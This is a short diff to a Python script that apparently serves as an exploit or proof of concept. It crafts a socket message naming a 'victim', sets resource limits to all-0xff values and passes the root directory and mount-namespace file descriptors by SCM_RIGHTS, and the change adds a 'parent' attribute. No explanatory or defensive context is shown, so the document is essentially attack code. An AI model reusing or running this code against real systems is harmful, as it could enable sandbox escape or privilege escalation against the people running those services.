@@ -23,7 +23,8 @@ def start(extra=()):
     fds = [strings, os.open("/", os.O_PATH | os.O_DIRECTORY), null, null, null,
            os.open("/proc/self/ns/mnt", os.O_RDONLY), *extra]
     limits = b"\\xff" * 16 * 16
-    s.sendmsg([message(16, attr(7, b"victim\\0"), attr(10, limits))],
+    parent = struct.pack("=I", len(extra))
+    s.sendmsg([message(16, attr(7, b"victim\\0"), attr(10, limits), attr(19, parent))],
               [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
     return s
 
